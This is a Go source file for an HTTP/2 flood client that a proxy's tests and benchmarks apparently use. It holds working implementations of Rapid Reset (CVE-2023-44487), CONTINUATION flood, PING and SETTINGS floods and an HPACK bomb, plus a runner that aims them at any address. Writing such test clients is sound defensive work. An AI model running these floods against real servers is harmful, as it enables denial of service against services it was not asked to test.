// Package h2flood is an abusive HTTP/2 client: the floods a proxy must cut
// off (Rapid Reset, CONTINUATION, PING, SETTINGS, HPACK bomb), frame by
// frame on a cleartext connection. The proxy's flood tests and
// bench/proxybench use it; nothing that ships imports it.
package h2flood

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"slices"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Kinds are the floods, by name.
var Kinds = []string{"rapid reset", "CONTINUATION flood", "PING flood", "SETTINGS flood", "HPACK bomb"}

// Step writes the i-th step of a flood to fr (the connection preface and
// first SETTINGS already sent).
type Step func(fr *http2.Framer, i int) error

// New returns the steps of a flood, with authority in its requests.
func New(kind, authority string) (Step, error) {
	block := func(extra ...hpack.HeaderField) []byte {
		var b bytes.Buffer
		e := hpack.NewEncoder(&b)
		e.SetMaxDynamicTableSizeLimit(4096)
		for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: authority}, {Name: ":path", Value: "/"}}, extra...) {
			_ = e.WriteField(f)
		}
		return b.Bytes()
	}
	plain := block()
	switch kind {
	case "rapid reset": // CVE-2023-44487: open and cancel streams as fast as possible.
		return func(fr *http2.Framer, i int) error {
			id := uint32(2*i + 1)
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: plain, EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
			return fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}, nil
	case "CONTINUATION flood": // CVE-2023-45288: a header block that never ends.
		return func(fr *http2.Framer, i int) error {
			if i == 0 {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: plain})
			}
			return fr.WriteContinuation(1, false, bytes.Repeat([]byte{0x40, 0x01, 'x', 0x01, 'y'}, 200))
		}, nil
	case "PING flood": // answered one by one, as long as the client reads the answers
		return func(fr *http2.Framer, i int) error { return fr.WritePing(false, [8]byte{byte(i)}) }, nil
	case "SETTINGS flood":
		return func(fr *http2.Framer, _ int) error {
			return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		}, nil
	case "HPACK bomb": // one large table entry, then blocks referencing it thousands of times
		return func(fr *http2.Framer, i int) error {
			if i == 0 {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, EndStream: true,
					BlockFragment: block(hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte("b"), 4000))})})
			}
			refs := append(slices.Clone(plain), bytes.Repeat([]byte{0xbe}, 16000)...) // index 62: x-bomb
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: refs, EndHeaders: true, EndStream: true})
		}, nil
	}
	return nil, fmt.Errorf("unknown flood %q: use one of %q", kind, Kinds)
}

// Result is how one flooded connection ended.
type Result struct {
	Steps int    // steps written
	End   string // the GOAWAY's error code, "closed without GOAWAY: ...", or "still open"
}

// GoAway reports whether the server ended the connection with a GOAWAY.
func (r Result) GoAway() bool {
	return r.End == http2.ErrCodeEnhanceYourCalm.String() || r.End == http2.ErrCodeProtocol.String() ||
		r.End == http2.ErrCodeCompression.String()
}

// Dial returns a function that opens cleartext TCP connections to addr.
func Dial(addr string) func() (net.Conn, error) {
	return func() (net.Conn, error) { return net.DialTimeout("tcp", addr, 5*time.Second) }
}

// Run floods one connection from dial (cleartext, or TLS with "h2"
// negotiated) for at most maxSteps steps and d, and returns once the server
// ends it or, when the time is up, after waiting up to a further 2 s for
// its answer. every, if not nil, runs every 1000 steps (to sample memory,
// say).
func Run(dial func() (net.Conn, error), step Step, maxSteps int, d time.Duration, every func()) (Result, error) {
	c, err := dial()
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return Result{}, err
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return Result{}, err
	}
	verdict := make(chan string, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				verdict <- "closed without GOAWAY: " + err.Error()
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				verdict <- g.ErrCode.String()
				return
			}
		}
	}()
	res := Result{End: "still open"}
	start := time.Now()
	for ; res.Steps < maxSteps && time.Since(start) < d; res.Steps++ {
		if step(fr, res.Steps) != nil {
			break // the server closed the connection
		}
		if res.Steps%1000 == 0 {
			if every != nil {
				every()
			}
			select {
			case res.End = <-verdict:
				return res, nil
			default:
			}
		}
	}
	select {
	case res.End = <-verdict:
	case <-time.After(2 * time.Second):
	}
	return res, nil
}
